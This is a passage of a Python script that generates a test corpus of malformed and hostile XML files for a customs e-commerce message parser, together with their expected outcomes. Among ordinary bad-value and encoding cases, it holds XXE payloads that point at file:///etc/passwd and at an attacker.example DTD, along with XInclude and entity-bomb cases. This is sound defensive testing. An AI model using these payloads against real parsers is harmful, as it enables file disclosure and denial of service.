        (INVENTORY, INV, "declTime", "20241301", "month-13"),
        (INVENTORY, INV, "ieDate", "20240615256000", "date-with-impossible-time"),
        (WAYBILL, WAY, "weight", "0.45kg", "weight-with-unit"),
        (WAYBILL, WAY, "packNo", "一", "pack-no-in-chinese"),
        (INVENTORY, f"{INV_LINE}[1]", "qty", "1,000", "thousands-separator"),
        (ORDER, HEAD, "buyerIdType", "身份证", "id-type-in-words"),
        (INVENTORY, INV, "ieFlag", "X", "ie-flag-x"),
        (INVENTORY, INV, "customsCode", "29A1", "customs-code-with-letter"),
        (PAYMENT, PAY, "amountPaid", "NaN", "amount-nan"),
        (ORDER, HEAD, "appStatus", "3", "app-status-3"),
        (ORDER, HEAD, "freight", "1e2", "exponent"),
        (ORDER, HEAD, "goodsValue", "９９.００", "full-width-digits"),
        (ORDER, HEAD, "appTime", "00000101000000", "year-zero"),
    ):
        what = f"{name} {new}" + (" (known gap D)" if case == "year-zero" else "")
        yield business(case, value(message, name, new), f"{path}/{name}", what)


def bad_encoding_cases() -> Cases:
    name = "王小明".encode()
    order = ORDER.encode()
    yield refused("invalid-utf8", order.replace(name, b"\xff\xfe\xfd", 1), NOT_XML, "")
    yield refused(
        "gbk-declared-utf8",
        order.replace(name, "王小明".encode("gbk"), 1),
        NOT_XML,
        "one name in GBK bytes",
    )
    yield refused(
        "gbk-undeclared", swap(ORDER, DECLARATION, "").encode("gbk"), NOT_XML, "UTF-8 by default"
    )
    yield refused(
        "utf16-without-bom-or-declaration",
        swap(ORDER, DECLARATION, "").encode("utf-16-le"),
        NOT_XML,
        "",
    )
    yield refused(
        "unknown-encoding", declared(ORDER, "UTF-9").encode(), ENCODING, 'encoding="UTF-9"'
    )
    yield refused(
        "ebcdic", declared(latin(ORDER), "IBM037").encode("cp037"), NOT_XML, "an EBCDIC message"
    )
    yield refused("nul-byte", order.replace(name, b"\x00", 1), NOT_XML, "")
    yield refused("control-character", order.replace(name, b"\x01", 1), NOT_XML, "")
    yield refused("overlong-utf8", order.replace(name, b"\xc0\xbc", 1), NOT_XML, "'<' in two bytes")
    yield refused("utf8-surrogate", order.replace(name, b"\xed\xa0\x80", 1), NOT_XML, "U+D800")
    yield refused("five-byte-utf8", order.replace(name, b"\xf8\x88\x80\x80\x80", 1), NOT_XML, "")
    yield refused("noncharacter", order.replace(name, "\ufffe".encode(), 1), NOT_XML, "U+FFFE")
    yield refused("latin1-declared-utf8", order.replace(name, b"Jos\xe9", 1), NOT_XML, "")
    yield refused("utf16-bom-utf8-content", b"\xff\xfe" + order, NOT_XML, "")
    yield refused("utf16-declared-utf8-content", declared(ORDER, "UTF-16").encode(), NOT_XML, "")
    yield refused(
        "invalid-gb18030",
        declared(ORDER, "GB18030")
        .encode("gb18030")
        .replace("王小明".encode("gb18030"), b"\x81\x20", 1),
        NOT_XML,
        "",
    )


def truncated_cases() -> Cases:
    inventory = INVENTORY.encode()

    def cut_after(marker: str, extra: int = 0) -> bytes:
        return inventory[: inventory.index(marker.encode()) + len(marker.encode()) + extra]

    yield refused("in-the-declaration", inventory[:20], NOT_XML, "")
    yield refused("after-the-declaration", cut_after(DECLARATION), NOT_XML, "")
    yield refused("in-the-root-tag", cut_after("<ceb:CEB621Message guid="), NOT_XML, "")
    yield refused("in-a-head-value", cut_after("<ceb:orderNo>T2024"), NOT_XML, "")
    yield refused(
        "in-a-chinese-character",
        cut_after("<ceb:ebpName>", 1),
        NOT_XML,
        "the first byte of a 3-byte character",
    )
    yield refused("in-a-line", cut_after("<ceb:gname>"), NOT_XML, "")
    yield refused("half", inventory[: len(inventory) // 2], NOT_XML, "")
    yield refused("before-the-root-end", cut_after("</ceb:BaseTransfer>\n"), NOT_XML, "")
    yield refused("in-the-root-end", inventory[:-8], NOT_XML, "")
    yield refused("first-byte", inventory[:1], NOT_XML, "")
    yield refused(
        "utf16-odd-byte",
        declared(INVENTORY, "UTF-16").encode("utf-16")[:-1],
        NOT_XML,
        "",
    )
    envelope = dxp(ORDER)
    yield refused("dxp-in-the-base64", envelope[: envelope.index("<dxp:Data>") + 200], NOT_XML, "")
    yield refused(
        "dxp-holding-a-truncated-message",
        dxp(ORDER.encode()[:-100]),
        NOT_XML,
        "the envelope is whole, the message inside is not",
    )


def not_xml_cases() -> Cases:
    orders, _ = order_rows()
    as_json = json.dumps(orders[0], default=str, ensure_ascii=False, indent=2)
    yield refused("empty", b"", NOT_XML, "")
    yield refused("whitespace", b" \r\n\t\n", NOT_XML, "")
    yield refused("bom-only", b"\xef\xbb\xbf", NOT_XML, "")
    yield refused("declaration-only", DECLARATION, NOT_XML, "")
    yield refused("json", as_json, NOT_XML, "the order as JSON")
    yield refused("csv", "orderNo,buyerName\nT20240615100001,王小明\n", NOT_XML, "")
    yield refused(
        "html-error-page", "<html><body><h1>502 Bad Gateway</h1></body></html>", NOT_CEB, ""
    )
    yield refused("plain-chinese-text", "订单已提交，请稍候。\n", NOT_XML, "")
    yield refused("png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(64)), NOT_XML, "")
    yield refused(
        "gzip", gzip.compress(ORDER.encode(), mtime=0), NOT_XML, "a compressed good order"
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr(zipfile.ZipInfo("order.xml", (2024, 6, 15, 10, 0, 0)), ORDER)
    yield refused("zip", archive.getvalue(), NOT_XML, "a zipped good order")
    yield refused("pdf-header", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", NOT_XML, "")


def dxp_envelope_cases() -> Cases:
    envelope = dxp(ORDER)
    payload = re.search(r"<dxp:Data>(.*)</dxp:Data>", envelope, re.S)
    assert payload is not None
    data = payload.group(1)

    def with_data(new: str) -> str:
        return envelope.replace(data, new)

    yield refused("bad-base64", with_data(data[:40] + "!!**" + data[40:]), "not base64", "")
    yield refused("bad-padding", with_data(data + "A"), "not base64", "one character too many")
    yield refused("inside-a-dxp", dxp(envelope), "DXP envelope inside", "")
    hidden = dxp("<!--" + " " * 300 + "-->" + swap(envelope, DECLARATION, ""))
    yield refused("inside-a-dxp-after-a-comment", hidden, NOT_CEB, "past the first 200 bytes")
    no_data = re.sub(r"\s*<dxp:Data>.*</dxp:Data>", "", envelope, flags=re.S)
    yield refused("without-data", no_data, "without Data", "")
    data_element = f"<dxp:Data>{data}</dxp:Data>"
    yield refused(
        "two-data",
        swap(envelope, data_element, data_element + data_element),
        "more than one Data",
        "which message would be cleared?",
    )
    yield refused("empty-data", with_data(""), NOT_XML, "")
    yield refused(
        "binary-data", with_data(base64.b64encode(bytes(range(256))).decode()), NOT_XML, ""
    )
    yield refused("base64-of-base64", dxp(base64.b64encode(ORDER.encode())), NOT_XML, "")
    yield refused("unknown-type-inside", dxp(names(ORDER, "CEB999Message")), UNKNOWN, "")
    yield refused(
        "doctype-on-the-envelope",
        with_doctype(envelope, '<!DOCTYPE dxp:DxpMsg SYSTEM "file:///etc/passwd">'),
        DTD,
        "",
    )
    yield business(
        "bad-value-inside",
        dxp(value(ORDER, "goodsValue", "39B.00")),
        f"{HEAD}/goodsValue",
        "a business problem through the envelope",
    )


def wrong_structure_cases() -> Cases:
    payment_head = element(PAYMENT, "PaymentHead")
    head = element(ORDER, "OrderHead")
    line = element(ORDER, "OrderList")
    yield business(
        "payment-head-in-an-order",
        swap(ORDER, head, payment_head),
        "/CEB311Message/Order[1]/PaymentHead",
        "",
    )
    yield business(
        "line-under-the-root",
        swap(ORDER, "  <ceb:BaseTransfer>", line + "\n  <ceb:BaseTransfer>"),
        "/CEB311Message/OrderList",
        "an OrderList outside any Order",
    )
    yield refused(
        "only-lines-under-the-root",
        re.sub(r"  <ceb:Order>.*</ceb:Order>\n", line + "\n", ORDER, flags=re.S),
        "no Order in the message",
        "",
    )
    fields = re.sub(r"</?ceb:OrderHead>", "", head)
    yield business(
        "fields-without-head",
        swap(ORDER, head, fields),
        "/CEB311Message/Order[1]/orderNo",
        "the head's fields straight in Order",
    )
    yield refused(
        "order-in-a-payment-message",
        re.sub(
            r"  <ceb:Payment>.*</ceb:Payment>\n",
            element(ORDER, "Order") + "\n",
            PAYMENT,
            flags=re.S,
        ),
        "no Payment in the message",
        "",
    )
    yield business(
        "payment-in-an-order-message",
        swap(ORDER, "  <ceb:BaseTransfer>", element(PAYMENT, "Payment") + "\n  <ceb:BaseTransfer>"),
        "/CEB311Message/Payment",
        "",
    )
    yield business(
        "base-transfer-in-a-node",
        swap(ORDER, "</ceb:Order>", element(ORDER, "BaseTransfer") + "</ceb:Order>"),
        "/CEB311Message/Order[1]/BaseTransfer",
        "",
    )


def _first(cases: Cases, count: int, prefix: str) -> Cases:
    """The first `count` cases of a group, renamed: the same cases aimed at another URL."""
    for case in itertools.islice(cases, count):
        yield dataclasses.replace(case, name=f"{prefix}-{case.name}")


def _external_entities() -> Cases:
    yield from external_entity_cases("file:///etc/passwd")
    yield from _first(external_entity_cases("file:///tmp/cbec-hostile-secret.txt"), 3, "secret")
    yield from _first(external_entity_cases("http://attacker.example/ceb.dtd"), 3, "http")


KINDS: dict[str, Callable[[], Cases]] = {
    "external_entity": _external_entities,
    "xinclude": lambda: xinclude_cases("file:///etc/passwd"),
    "entity_bomb": entity_bomb_cases,
    "deep_nesting": deep_nesting_cases,
    "huge_text": huge_text_cases,
    "wrong_namespace": wrong_namespace_cases,
    "unknown_type": unknown_type_cases,
    "missing_required": missing_required_cases,
    "repeated_element": repeated_element_cases,
    "wrong_type": wrong_type_cases,
    "bad_encoding": bad_encoding_cases,
    "truncated": truncated_cases,
    "not_xml": not_xml_cases,
    "dxp_envelope": dxp_envelope_cases,
    "wrong_structure": wrong_structure_cases,
}


def cases() -> list[Case]:
    """Every case of every kind."""
    found = []
    for kind, make in KINDS.items():
        for case in make():
            if len(case.data) > MAX_FILE_BYTES:
                raise ValueError(f"{kind}/{case.name} is {len(case.data)} bytes")
            found.append(dataclasses.replace(case, kind=kind))
    return found


def write(root: Path = HERE) -> list[Path]:
    """The corpus written afresh under `root` (each kind's folder replaced), numbered within
    each kind, with `expected.tsv`."""
    written = []
    lines = ["file\toutcome\tmatch\twhat"]
    counts: dict[str, int] = {}
    for case in cases():
        folder = root / case.kind
        if case.kind not in counts:
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir(parents=True)
        counts[case.kind] = counts.get(case.kind, 0) + 1
        path = folder / f"{counts[case.kind]:02d}_{case.name}.xml"
        path.write_bytes(case.data)
        written.append(path)
        what = case.what or case.name.replace("-", " ")
        lines.append(f"{case.kind}/{path.name}\t{case.outcome}\t{case.match}\t{what}")
    (root / "expected.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return written


if __name__ == "__main__":
    paths = write()
    kinds = sorted({p.parent.name for p in paths})
    print(f"{len(paths)} files in {len(kinds)} kinds")
